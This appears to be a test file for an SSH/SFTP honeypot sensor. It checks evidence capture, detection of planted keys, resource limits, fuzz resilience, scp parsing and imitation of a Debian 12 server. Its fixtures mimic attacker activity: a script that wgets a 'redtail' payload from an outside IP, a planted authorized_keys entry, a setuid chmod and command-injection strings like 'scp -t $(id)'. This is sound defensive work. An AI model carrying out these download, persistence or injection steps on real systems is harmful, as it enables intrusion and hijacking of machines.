import fc from 'fast-check'
import type { Client, ClientChannel, FileEntry, SFTPWrapper, Stats } from 'ssh2'
import { expect, test } from 'vitest'
import { testSensor } from '../../testing.ts'
import { connect } from './testing.ts'
import { listTime, modeText } from '../../world/listing.ts'
import { scpOf } from './scp.ts'
import { byte, string, uint32 } from './wire.ts'

// The client is ssh2, which is not ours; OpenSSH's sftp and scp, curl and paramiko are driven by test/interop.

const open = (client: Client): Promise<SFTPWrapper> =>
  new Promise((resolve, reject) => client.sftp((error, sftp) => (error ? reject(error) : resolve(sftp))))
const call = <T = void>(work: (done: (error: Error | null | undefined, value?: unknown) => void) => void): Promise<T> =>
  new Promise((resolve, reject) => work((error, value) => (error ? reject(error) : resolve(value as T))))
const shell = (client: Client, line: string): Promise<string> =>
  new Promise((resolve, reject) =>
    client.exec(line, (error, stream) => {
      if (error) return reject(error)
      let out = ''
      stream.on('data', (chunk: Buffer) => (out += chunk.toString('latin1')))
      stream.stderr.on('data', (chunk: Buffer) => (out += chunk.toString('latin1')))
      stream.on('close', () => resolve(out))
    }),
  )

test('what is put is kept as evidence, stands in the shell, and is there again', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  const sftp = await open(client)
  const script = '#!/bin/sh\nwget http://5.5.5.5/redtail.x86_64\n'
  await call((done) => sftp.writeFile('setup.sh', script, { mode: 0o700 }, done))
  const elf = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(300_000, 7)])
  await call((done) => sftp.writeFile('/tmp/redtail', elf, done))
  const stored = await lab.until('artifact.stored', ({ data }) => data.name === '/tmp/redtail')
  expect(stored.data).toMatchObject({ size: elf.length, media: 'application/x-elf' })
  expect((await lab.until('payload.seen')).data.url).toBe('http://5.5.5.5/redtail.x86_64')
  const put = (await lab.events()).find(({ id }) => id === stored.data.parent)
  expect(put?.data).toMatchObject({ verb: 'OPEN', statement: 'OPEN /tmp/redtail write' })
  expect(await shell(client, 'ls -l setup.sh | cut -c1-10; cat setup.sh; ls -l /tmp/redtail')).toMatch(
    /^-rwx------\n#!\/bin\/sh\nwget .*\n-rw-r--r-- 1 root root 300004 /,
  )
  expect((await call<Buffer>((done) => sftp.readFile('/tmp/redtail', done))).equals(elf)).toBe(true)
  await shell(client, 'echo more >> setup.sh')
  expect(String(await call<Buffer>((done) => sftp.readFile('setup.sh', done)))).toBe(`${script}more\n`)
  client.end()
  expect(lab.log).toEqual([])
})

test('a planted key opens the door; folders, links, names, modes, times', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  const sftp = await open(client)
  await call((done) => sftp.mkdir('/tmp/d', { mode: 0o700 }, done))
  const line = `ssh-ed25519 ${Buffer.concat([Buffer.from('0000000b7373682d6564323535313900000020', 'hex'), Buffer.alloc(32, 9)]).toString('base64')} x`
  await call((done) => sftp.writeFile('.ssh/authorized_keys', `${line}\n`, done))
  expect((await lab.until('key.planted')).data).toMatchObject({ path: '/root/.ssh/authorized_keys' })
  await call((done) => sftp.symlink('/etc/passwd', '/tmp/link', done))
  expect(await call<string>((done) => sftp.readlink('/tmp/link', done))).toBe('/etc/passwd')
  expect(String(await call<Buffer>((done) => sftp.readFile('/tmp/link', done)))).toMatch(/^root:x:0:0:/)
  await call((done) => sftp.rename('.ssh/authorized_keys', '/tmp/keys', done))
  await call((done) => sftp.chmod('/tmp/keys', 0o4755, done))
  await call((done) => sftp.utimes('/tmp/keys', 1_000_000_000, 1_000_000_000, done))
  const stats = await call<Stats>((done) => sftp.stat('/tmp/keys', done))
  expect([stats.mode, stats.mtime, stats.isFile()]).toEqual([0o104755, 1_000_000_000, true])
  const list = await call<FileEntry[]>((done) => sftp.readdir('/tmp', done))
  expect(list.find(({ filename }) => filename === 'keys')?.longname).toBe(
    `-rwsr-xr-x    1 root     root     ${String(stats.size).padStart(8)} Sep  9  2001 keys`,
  )
  expect(list.find(({ filename }) => filename === 'link')?.longname).toMatch(/^lrwxrwxrwx {4}1 root/)
  await call((done) => sftp.rmdir('/tmp/d', done))
  for (const [what, words] of [
    [(done: never) => sftp.readFile('/no/such', done), 'No such file'],
    [(done: never) => sftp.mkdir('/tmp', done), 'Failure'],
    [(done: never) => sftp.rmdir('/etc', done), 'Failure'],
    [(done: never) => sftp.unlink('/etc', done), 'Failure'],
    [(done: never) => sftp.rename('/tmp/keys', '/etc/passwd', done), 'Failure'],
    [(done: never) => sftp.opendir('/etc/passwd', done), 'No such file'],
  ] as const)
    await expect(call((done) => what(done as never))).rejects.toThrow(words)
  expect(await call<string>((done) => sftp.realpath('../tmp/./new', done))).toBe('/tmp/new')
  client.end()
})

test('a disk that is full, files without end and many open files are refused, and nothing else', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  const sftp = await open(client)
  const handle = await call<Buffer>((done) => sftp.open('/tmp/big', 'w', done))
  await expect(call((done) => sftp.write(handle, Buffer.alloc(10), 0, 10, 2 ** 40, done as never))).rejects.toThrow(
    'Failure',
  )
  await call((done) => sftp.write(handle, Buffer.from('end'), 0, 3, 1_000_000, done as never))
  await call((done) => sftp.close(handle, done))
  expect(await shell(client, 'stat -c %s /tmp/big')).toBe('1000003\n')
  // All that one attacker writes at once has one limit, over its channels; what only reads takes no room.
  const second = await open(client)
  for (const [i, channel] of [sftp, second].entries()) {
    const big = await call<Buffer>((done) => channel.open(`/tmp/big${i}`, 'w', done))
    await call((done) => channel.write(big, Buffer.from('end'), 0, 3, 11_000_000, done as never))
  }
  const third = await call<Buffer>((done) => second.open('/tmp/big3', 'w', done))
  await expect(
    call((done) => second.write(third, Buffer.from('end'), 0, 3, 11_000_000, done as never)),
  ).rejects.toThrow('Failure')
  second.end()
  // A file that is open for reading is not cut.
  const passwd = await call<Buffer>((done) => sftp.open('/etc/passwd', 'r', done))
  await expect(call((done) => sftp.fsetstat(passwd, { size: 0 } as never, done))).rejects.toThrow('Failure')
  expect(String(await call<Buffer>((done) => sftp.readFile('/etc/passwd', done)))).toMatch(/^root:/)
  await call((done) => sftp.close(passwd, done))
  // What is made only when it is read takes room, too, and gives it back.
  for (let round = 0; round < 2; round++) {
    const made: Buffer[] = []
    await expect(
      (async () => {
        for (let i = 0; i < 30; i++) made.push(await call<Buffer>((done) => sftp.open('/usr/bin/perl', 'r', done)))
      })(),
    ).rejects.toThrow('Failure')
    expect(made.length).toBeGreaterThan(0)
    for (const one of made) await call((done) => sftp.close(one, done))
  }
  let opened = 1
  await expect(
    (async () => {
      for (; opened < 200; opened++) await call<Buffer>((done) => sftp.open('/etc/passwd', 'r', done))
    })(),
  ).rejects.toThrow('Failure')
  expect(opened).toBe(64)
  client.end()
  const again = await connect(lab)
  const fresh = await open(again)
  expect(await call<string>((done) => fresh.realpath('.', done))).toBe('/root')
  again.end()
})

test('whatever is sent as SFTP, the sensor goes on', async () => {
  await using lab = await testSensor()
  const client = await connect(lab)
  const raw = (bytes: Buffer): Promise<void> =>
    new Promise((resolve, reject) =>
      client.subsys('sftp', (error, stream) => {
        if (error) return reject(error)
        stream.on('data', () => {}).on('close', () => resolve())
        stream.end(bytes)
      }),
    )
  const message = fc
    .tuple(fc.constantFrom(...Array.from({ length: 21 }, (_, i) => i), 200, 255), fc.uint8Array({ maxLength: 60 }))
    .map(([kind, body]) => {
      const head = Buffer.alloc(9)
      head.writeUInt32BE(body.length + 5, 0)
      head[4] = kind
      return Buffer.concat([head, Buffer.from(body)])
    })
  await fc.assert(
    fc.asyncProperty(fc.array(message, { maxLength: 8 }), fc.uint8Array({ maxLength: 20 }), async (all, rest) => {
      await raw(Buffer.concat([...all, Buffer.from(rest)]))
    }),
    { numRuns: 60 },
  )
  expect(await shell(client, 'whoami')).toBe('root\n')
  client.end()
  expect(lab.log).toEqual([])
}, 60_000)

test('which lines are scp, and which a shell must read', () => {
  expect(scpOf('scp -t /tmp')).toEqual({ takes: true, recursive: false, paths: ['/tmp'] })
  expect(scpOf("scp -r -p -f 'a b' c")).toEqual({ takes: false, recursive: true, paths: ['a b', 'c'] })
  expect(scpOf('scp -rt -- /tmp/x')).toEqual({ takes: true, recursive: true, paths: ['/tmp/x'] })
  for (const line of ['scp -t /tmp; id', 'scp a b', 'scp -t $(id)', 'scp -t *', 'echo scp -t x', 'scp -t'])
    expect(scpOf(line), line).toBeUndefined()
})

test('a listing shows modes and times as ls does', () => {
  expect(modeText({ type: 'file', mode: 0o4755 })).toBe('-rwsr-xr-x')
  expect(modeText({ type: 'directory', mode: 0o1777 })).toBe('drwxrwxrwt')
  expect(modeText({ type: 'file', mode: 0o2640 })).toBe('-rw-r-S---')
  const now = Date.parse('2026-11-24T00:00:00Z')
  expect(listTime(Date.parse('2026-11-02T03:04:05Z'), now)).toBe('Nov  2 03:04')
  expect(listTime(Date.parse('2025-01-12T03:04:05Z'), now)).toBe('Jan 12  2025')
})

test('extensions are those of the release, and answer as the real server was seen to', async () => {
  await using lab = await testSensor({}, { persona: 'debian-12' })
  const client = await connect(lab)
  const channel = await call<ClientChannel>((done) => client.subsys('sftp', done))
  let came = Buffer.alloc(0)
  channel.on('data', (part: Buffer) => (came = Buffer.concat([came, part])))
  const ask = async (message: Buffer): Promise<Buffer> => {
    channel.write(string(message))
    while (came.length < 4 || came.length < came.readUInt32BE(0) + 4)
      await new Promise((resolve) => setTimeout(resolve, 5))
    const size = came.readUInt32BE(0)
    const reply = came.subarray(4, 4 + size)
    came = came.subarray(4 + size)
    return reply
  }
  const hello = await ask(Buffer.concat([byte(1), uint32(3)]))
  expect(
    hello
      .toString('latin1')
      .match(/[a-z-]+(?:@openssh\.com)?(?=\0\0\0\u0001)/g)
      ?.join(' '),
  ).toBe(
    'posix-rename@openssh.com statvfs@openssh.com fstatvfs@openssh.com hardlink@openssh.com fsync@openssh.com lsetstat@openssh.com limits@openssh.com expand-path@openssh.com copy-data home-directory users-groups-by-id@openssh.com',
  )
  const extended = (name: string, ...parts: Buffer[]) =>
    ask(Buffer.concat([byte(200), uint32(7), string(name), ...parts])).then((reply) => reply.toString('hex'))
  const hex = (...parts: Buffer[]) => Buffer.concat(parts).toString('hex')
  const named = (path: string) => hex(byte(104), uint32(7), uint32(1), string(path), string(path), uint32(0))
  // Recorded from Debian 12.
  expect(await extended('limits@openssh.com')).toBe(
    'c9000000070000000000040000000000000003fc00000000000003fc0000000000000003fb',
  )
  expect(await extended('expand-path@openssh.com', string('~/x'))).toBe(named('/root/x'))
  expect(await extended('expand-path@openssh.com', string('rel'))).toBe(named('/root/rel'))
  expect(await extended('expand-path@openssh.com', string('~nosuch/x'))).toBe(
    hex(byte(101), uint32(7), uint32(2), string('no such user'), string('')),
  )
  expect(await extended('home-directory', string('root'))).toBe(named('/root'))
  expect(
    await extended(
      'users-groups-by-id@openssh.com',
      string(Buffer.concat([uint32(0), uint32(99_999)])),
      string(uint32(0)),
    ),
  ).toBe('c9000000070000000c00000004726f6f74000000000000000800000004726f6f74')
  expect(await extended('nope')).toBe(hex(byte(101), uint32(7), uint32(8), string('Operation unsupported'), string('')))
  client.end()
})
